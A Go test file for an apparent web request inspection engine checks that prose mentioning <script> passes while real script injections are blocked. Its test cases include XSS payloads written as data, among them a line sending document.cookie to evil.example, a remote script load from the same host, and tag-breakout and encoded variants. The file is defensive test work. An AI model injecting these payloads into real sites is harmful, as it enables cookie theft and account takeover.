package inspect

import (
	"net/http"
	"net/url"
	"testing"
)

// A script element named in a sentence of a description cannot run: its
// text starts with two words, which no JavaScript parses. Scripts whose
// text may parse, that load a source, or whose text lost code to the
// prose view still block.
func TestTextScript(t *testing.T) {
	e := newTestEngine(t)
	form := http.Header{"Content-Type": {"application/x-www-form-urlencoded"}}
	for _, c := range []struct {
		description string
		block       bool
	}{
		{"The following <script> element includes an integrity attribute containing three values, one calculated using SHA-256.", false},
		{"A <script type=\"speculationrules\"> element must contain a valid JSON structure that defines speculation rules.", false},
		{"You've now got your function definition written into your <script> element just fine, but it will do nothing.", false},
		{"The <script> element holds code </script> and the page goes on with more words.", false},
		{"Nice article, thanks for writing it <script>alert(1)</script> and more words", true},
		{"Nice article, thanks for writing it <script>document.location='//evil.example/'+document.cookie</script>", true},
		{"A line break ends a statement: <script>element\nalert(1)</script> so this one runs.", true},
		{"A keyword takes a name: <script>new deleteAccount</script> calls a function of the page.", true},
		{"An operator joins two names: <script>name in window;alert(1)</script> runs the call.", true},
		{"A source loads whatever it says: <script src=//evil.example/x.js> element loads a script.", true},
		{"The <script> element holds code </script><script>alert(1)</script> and the page goes on.", true},
		{"A closing tag alone breaks out of the page's script </script> and words follow it here.", true},
		{"The <script> element `x` includes code removed as a code span, so its text is unknown.", true},
		{"The <script>element&#10;alert(1)</script> has a line break once decoded, which ends a statement.", true},
	} {
		r := &Request{Method: "POST", URI: "/posts", Header: form, Body: []byte(url.Values{"description": {c.description}}.Encode())}
		if v := e.Inspect(r); (v.Action == Block) != c.block {
			t.Errorf("description %q: %v, want blocked=%v", c.description, v, c.block)
		}
	}
}
